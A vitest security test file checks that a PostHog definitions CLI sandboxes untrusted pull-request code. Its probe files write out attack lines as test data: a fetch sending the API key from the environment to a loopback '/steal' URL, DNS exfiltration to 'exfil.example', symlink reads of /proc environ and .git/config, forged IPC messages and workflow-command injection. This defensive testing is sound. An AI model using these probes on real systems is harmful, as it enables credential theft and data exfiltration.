import { spawn } from "node:child_process";
import { createSocket, type Socket } from "node:dgram";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startEmulator, type RunningEmulator } from "../../src/emulator/index.js";
import { bundlePath, copyFixture, runCliProcess } from "../helpers/cli.js";
import { resetEmulator } from "../helpers/emulator-control.js";

/**
 * Definition files are code from pull requests. These tests attack the CLI's
 * loader the way such code would, with a key in the environment, and check that
 * nothing is read, nothing leaves the process and every attempt names its file.
 * They run the CLI as a process (the bundles built from the sources, see
 * `bundlePath`): the key must sit in a real process's environment, and what
 * definition code prints reaches that process's stderr.
 */

const KEY = "phx_sandboxSecretKey_4f1e2d3c";
let emulator: RunningEmulator;
let repo: ReturnType<typeof copyFixture>;
let outside: string;

const cli = (...args: string[]) => runCliProcess(args, { cwd: repo.dir, env: { POSTHOG_HOST: emulator.url, POSTHOG_PROJECT_ID: "1", POSTHOG_PERSONAL_API_KEY: KEY } });
const flag = (key: string) => `export default featureFlag({ key: "${key}", name: "${key}", filters: { groups: [{ rollout_percentage: 0 }] } })`;
const sdk = 'import { featureFlag } from "@posthog/definitions"';

beforeAll(async () => {
  emulator = await startEmulator({ rateLimits: false, keys: [{ key: KEY, scopes: ["*"] }] });
});
afterAll(async () => {
  await emulator.close();
});
beforeEach(async () => {
  repo = copyFixture("growth");
  outside = mkdtempSync(join(tmpdir(), "posthog-outside-"));
  await resetEmulator(emulator);
  emulator.clearRequests();
});
afterEach(() => {
  repo.cleanup();
  rmSync(outside, { recursive: true, force: true });
});

describe("reads are confined to the repository by real path", () => {
  it("refuses a link to /proc, a link to a file outside and a link to .git/config, naming each file, and reads none of them", async () => {
    writeFileSync(join(outside, "stolen.ts"), `${sdk}\nexport default featureFlag({ key: "stolen", name: "OUTSIDE_MARKER_91", filters: { groups: [] } })\n`);
    writeFileSync(join(outside, "notes.json"), '{ "marker": "OUTSIDE_JSON_MARKER_17" }\n');
    mkdirSync(join(repo.dir, ".git"));
    writeFileSync(join(repo.dir, ".git", "config"), '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic R0lUX01BUktFUl80Mg==\n');
    symlinkSync("/proc", join(repo.dir, "p"));
    symlinkSync(join(outside, "stolen.ts"), join(repo.dir, "posthog", "feature-flags", "stolen.ts"));
    symlinkSync(join(outside, "notes.json"), join(repo.dir, "posthog", "notes.json"));
    symlinkSync("../.git/config", join(repo.dir, "posthog", "git-config.json"));
    repo.write("posthog/feature-flags/environ.ts", [sdk, "const env = await import(`../../p/${process.ppid}/environ`)", flag("environ"), ""].join("\n"));
    repo.write("posthog/feature-flags/notes.ts", [sdk, 'import notes from "../notes.json" with { type: "json" }', flag("notes"), ""].join("\n"));
    repo.write("posthog/feature-flags/git.ts", [sdk, 'import git from "../git-config.json" with { type: "json" }', flag("git"), ""].join("\n"));
    repo.write("posthog/feature-flags/direct.ts", [sdk, 'import git from "../../.git/config" with { type: "json" }', flag("direct"), ""].join("\n"));

    const result = await cli("plan");
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/posthog\/feature-flags\/environ\.ts:1: error: posthog\/feature-flags\/environ\.ts imports \.\.\/\.\.\/p\/\d+\/environ: refused, p is a symbolic link to \/proc, outside the repository/);
    expect(result.stderr).toContain(`posthog/feature-flags/stolen.ts:1: error: refused: posthog/feature-flags/stolen.ts is a symbolic link to ${join(outside, "stolen.ts")}, outside the repository`);
    expect(result.stderr).toContain("posthog/feature-flags/notes.ts:2: error: posthog/feature-flags/notes.ts imports ../notes.json: refused, posthog/notes.json is a symbolic link");
    expect(result.stderr).toContain("posthog/feature-flags/git.ts:2: error: posthog/feature-flags/git.ts imports ../git-config.json: refused, posthog/git-config.json is a symbolic link to ../.git/config, inside .git/");
    expect(result.stderr).toContain("posthog/feature-flags/direct.ts:2: error: posthog/feature-flags/direct.ts imports ../../.git/config: refused, .git/ is never readable");
    const everything = result.stdout + result.stderr;
    for (const marker of ["OUTSIDE_MARKER_91", "OUTSIDE_JSON_MARKER_17", "R0lUX01BUktFUl80Mg", KEY]) expect(everything).not.toContain(marker);
    // The plan's own reads start from the config while the definitions load (issue 14); nothing is written.
    expect(emulator.requests.filter((r) => r.method !== "GET")).toEqual([]);
  });

  it("keeps a link to a file inside the repository working, and a definitions directory that is a link to outside refused", async () => {
    symlinkSync("new-checkout.ts", join(repo.dir, "posthog", "feature-flags", "alias.ts"));
    const inside = await cli("validate");
    expect(inside.stderr).toBe("");
    expect(inside.code).toBe(0);

    rmSync(join(repo.dir, "posthog"), { recursive: true });
    symlinkSync(outside, join(repo.dir, "posthog"));
    const linked = await cli("validate");
    expect(linked.code).toBe(1);
    expect(linked.stderr).toContain(`error: refused: the definitions directory posthog is a symbolic link to ${outside}, outside the repository`);
  });
});

describe("definition code has no network", () => {
  let tcp: Server;
  let udp: Socket;
  const arrived = { connections: 0, bytes: 0, datagrams: 0 };

  beforeAll(async () => {
    tcp = createServer((socket) => {
      arrived.connections++;
      socket.on("data", (chunk) => (arrived.bytes += chunk.length));
    });
    await new Promise<void>((done) => tcp.listen(0, "127.0.0.1", done));
    udp = createSocket("udp4");
    udp.on("message", (message) => {
      arrived.datagrams++;
      arrived.bytes += message.length;
    });
    await new Promise<void>((done) => udp.bind(0, "127.0.0.1", done));
  });
  afterAll(async () => {
    await new Promise<void>((done) => tcp.close(() => done()));
    udp.close();
  });

  it("lets nothing reach a loopback listener through fetch, http.request, net.connect, dns.lookup or WebSocket, and names every file, even when the code catches the error", async () => {
    const port = (tcp.address() as { port: number }).port;
    const dnsPort = udp.address().port;
    const url = `http://127.0.0.1:${port}/steal?key=`;
    const probes: Record<string, string[]> = {
      "fetch.ts": [`await fetch("${url}" + (process.env.POSTHOG_PERSONAL_API_KEY ?? "none"), { method: "POST", body: "x" })`],
      "fetch-caught.ts": [`try { await fetch("${url}") } catch {}`],
      "http.ts": ['import http from "node:http"', `http.request("${url}").end("x")`],
      "net.ts": ['import net from "node:net"', `net.connect(${port}, "127.0.0.1").end("x")`],
      "builtin.ts": [`const net = process.getBuiltinModule("node:net")`, `net.connect(${port}, "127.0.0.1").end("x")`],
      "dns.ts": ['import dns from "node:dns"', `const resolver = new dns.Resolver(); resolver.setServers(["127.0.0.1:${dnsPort}"]); resolver.resolve4("exfil.example", () => {})`, 'dns.lookup("exfil.example", () => {})'],
      "websocket.ts": [`new WebSocket("ws://127.0.0.1:${port}/")`],
    };
    for (const [file, lines] of Object.entries(probes)) repo.write(`posthog/probes/${file}`, [...lines, ""].join("\n"));

    const result = await cli("plan");
    // Whatever the outcome of a send, it would have happened by now: the loader has exited.
    await new Promise((done) => setTimeout(done, 200));
    expect(arrived).toEqual({ connections: 0, bytes: 0, datagrams: 0 });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("posthog/probes/fetch.ts:1:7: error: definitions cannot use the network: fetch is disabled in the definitions loader");
    expect(result.stderr).toContain("posthog/probes/fetch-caught.ts:1:13: error: definitions cannot use the network: fetch is disabled in the definitions loader");
    expect(result.stderr).toContain("posthog/probes/http.ts:1: error: posthog/probes/http.ts: definitions cannot use node:http");
    expect(result.stderr).toContain("posthog/probes/net.ts:1: error: posthog/probes/net.ts: definitions cannot use node:net");
    expect(result.stderr).toMatch(/posthog\/probes\/builtin\.ts:1:\d+: error: definitions cannot use node:net/);
    expect(result.stderr).toContain("posthog/probes/dns.ts:1: error: posthog/probes/dns.ts: definitions cannot use node:dns");
    expect(result.stderr).toContain("posthog/probes/websocket.ts:1:1: error: definitions cannot use the network: WebSocket is disabled in the definitions loader");
    expect(result.stdout + result.stderr).not.toContain(KEY);
    // The plan's own reads start from the config while the definitions load (issue 14); nothing is written.
    expect(emulator.requests.filter((r) => r.method !== "GET")).toEqual([]);
  });
});

describe("the reply channel cannot be forged", () => {
  it("gives definition code no IPC channel: a forged process.send fails the load, names the file and plans nothing", async () => {
    const forged = JSON.stringify({ type: "result", definitions: [{ kind: "feature-flags", key: "forged", spec: { key: "forged", name: "FORGED_MARKER" }, source: { file: "../../etc/passwd", line: 1 } }], diagnostics: [] });
    repo.write("posthog/feature-flags/forge.ts", [sdk, `;(process as any).send(${forged})`, flag("forge"), ""].join("\n"));
    const result = await cli("plan");
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("posthog/feature-flags/forge.ts:2:");
    expect(result.stderr).toContain("process.send is not a function");
    expect(result.stdout + result.stderr).not.toContain("FORGED_MARKER");
    // The plan's own reads start from the config while the definitions load (issue 14); nothing is written.
    expect(emulator.requests.filter((r) => r.method !== "GET")).toEqual([]);
  });
});

describe("console output of definitions", () => {
  it("reaches stderr, but cannot issue GitHub workflow commands", async () => {
    repo.write("posthog/feature-flags/talk.ts", [sdk, 'console.log("hello from a definition")', 'console.log("::set-output name=has-changes::false")', 'console.error("  ::stop-commands::x")', flag("talk"), ""].join("\n"));
    const result = await cli("validate");
    expect(result.code).toBe(0);
    expect(result.stderr).toContain("hello from a definition\n");
    expect(result.stderr).toContain("[definition output] ::set-output name=has-changes::false\n");
    expect(result.stderr).toContain("[definition output]   ::stop-commands::x\n");
    expect(result.stderr).not.toMatch(/^\s*::/m);
  });
});

describe("budgets", () => {
  it("stops a file that never settles, loops forever or exhausts memory with an error naming it, exit 1", { timeout: 60_000 }, async () => {
    repo.write("posthog/feature-flags/await.ts", "await new Promise(() => {})\n");
    const unsettled = await cli("validate");
    expect(unsettled.code).toBe(1);
    expect(unsettled.stderr).toContain("posthog/feature-flags/await.ts:1: error: posthog/feature-flags/await.ts never finishes: its top-level await waits on a promise that never settles");
    repo.remove("posthog/feature-flags/await.ts");

    repo.write("posthog/feature-flags/loop.ts", "while (true) {}\n");
    const started = Date.now();
    const loop = await cli("validate");
    expect(loop.code).toBe(1);
    expect(loop.stderr).toContain("posthog/feature-flags/loop.ts:1: error: evaluating posthog/feature-flags/loop.ts took longer than 10s");
    expect(Date.now() - started).toBeLessThan(20_000);
    repo.remove("posthog/feature-flags/loop.ts");

    repo.write("posthog/feature-flags/memory.ts", "const hoard: number[][] = []\nwhile (true) hoard.push(new Array(1e6).fill(1.5))\n");
    const memory = await cli("validate");
    expect(memory.code).toBe(1);
    expect(memory.stderr).toContain("posthog/feature-flags/memory.ts:1: error: evaluating posthog/feature-flags/memory.ts ran out of memory (the definitions loader may use 512 MB)");
  });
});

describe("the emulator's control routes", () => {
  it("refuse requests without the admin key the CLI prints, and keep the state", async () => {
    const adminKey = "phx_admin_e2e_0123456789abcdef";
    const child = spawn(process.execPath, [bundlePath("cli.js"), "emulator", "--port", "0", "--admin-key", adminKey], { stdio: ["ignore", "pipe", "inherit"] });
    try {
      const banner = await new Promise<string>((done, fail) => {
        child.stdout.on("data", (chunk) => done(String(chunk)));
        child.on("exit", (code) => fail(new Error(`the emulator exited with code ${code}`)));
      });
      expect(banner).toContain(`admin key for /_emulator/*: ${adminKey}`);
      const url = /listening on (\S+)/.exec(banner)![1]!;
      const created = await fetch(`${url}/api/projects/1/dashboards/`, { method: "POST", headers: { authorization: "Bearer phx_emulator", "content-type": "application/json" }, body: JSON.stringify({ name: "Kept" }) });
      expect(created.status).toBe(201);

      expect((await fetch(`${url}/_emulator/reset`, { method: "POST" })).status).toBe(401);
      expect((await fetch(`${url}/_emulator/reset`, { method: "POST", headers: { authorization: "Bearer phx_emulator" } })).status).toBe(401);
      expect((await fetch(`${url}/_emulator/state`)).status).toBe(401);
      const listed = (await (await fetch(`${url}/api/projects/1/dashboards/`, { headers: { authorization: "Bearer phx_emulator" } })).json()) as { results: { name: string }[] };
      expect(listed.results.map((d) => d.name)).toEqual(["Kept"]);

      expect((await fetch(`${url}/_emulator/reset`, { method: "POST", headers: { authorization: `Bearer ${adminKey}` } })).status).toBe(204);
      const after = (await (await fetch(`${url}/api/projects/1/dashboards/`, { headers: { authorization: "Bearer phx_emulator" } })).json()) as { results: unknown[] };
      expect(after.results).toEqual([]);
    } finally {
      child.kill("SIGTERM");
    }
  });
});
